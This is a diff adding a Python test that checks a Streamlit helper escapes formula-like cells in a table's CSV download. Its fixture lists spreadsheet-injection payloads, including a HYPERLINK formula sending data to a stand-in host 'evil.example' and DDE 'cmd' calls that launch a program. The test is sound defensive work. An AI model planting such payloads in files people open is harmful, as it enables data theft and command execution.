@@ -1,5 +1,6 @@
 """ui.display's helpers: text shown exactly as written where Streamlit renders Markdown
-(`as_text`, `static_table`), a notice that keeps its place whatever the settings (`note_if`),
+(`as_text`, `static_table`), a table whose own CSV download holds no formula (`data_table`), a notice that
+keeps its place whatever the settings (`note_if`),
 and shared settings set from numbers a browser component sent (`set_shared`, and the live
 preview's callback that uses it)."""
 
@@ -52,6 +53,38 @@ def test_static_table_leaves_no_markup_and_the_oracle_sees_a_raw_one():
     raw.session_state["raw"] = True
     raw.run()
     assert markdown_problems(raw), "the hostile-input oracle must flag a table cell that Markdown would turn into a link"
+
+
+def _data_table_app() -> None:
+    import pandas as pd
+    import streamlit as st
+
+    from ui.display import data_table
+
+    cells = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx"]
+    cells += ["-0.5", "+1e-3", "-inf", "a = b", "", "'quoted"]
+    frame = pd.DataFrame({"=name": cells, "n": range(len(cells)), "x": [-0.5] * len(cells)}, index=[f"@{i}" for i in range(len(cells))])
+    (st.dataframe if st.session_state.get("raw") else data_table)(frame)
+
+
+def test_a_data_tables_own_csv_download_holds_no_formula():
+    """The cells st.dataframe sends, which its toolbar's "Download as CSV" writes as they are: text that
+    starts like a formula gets a single quote in front (OWASP's rule), header and index too; numbers, text
+    that is a number and any other text are left alone. The oracle: st.dataframe itself sends them raw."""
+    at = AppTest.from_function(_data_table_app).run()
+    assert not at.exception
+    frame = at.dataframe[0].value
+    assert list(frame.columns) == ["'=name", "n", "x"]
+    assert frame["'=name"].tolist() == [
+        "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tx", "'\rx",
+        "-0.5", "+1e-3", "-inf", "a = b", "", "'quoted",
+    ]  # fmt: skip
+    assert frame["n"].tolist() == list(range(12)) and frame["x"].tolist() == [-0.5] * 12
+    assert frame.index.tolist() == [f"'@{i}" for i in range(12)]
+    raw = AppTest.from_function(_data_table_app)
+    raw.session_state["raw"] = True
+    raw.run()
+    assert raw.dataframe[0].value.iloc[0, 0].startswith("=HYPERLINK"), "st.dataframe alone sends the formula as it is"
 
 
 def _notice_app() -> None:
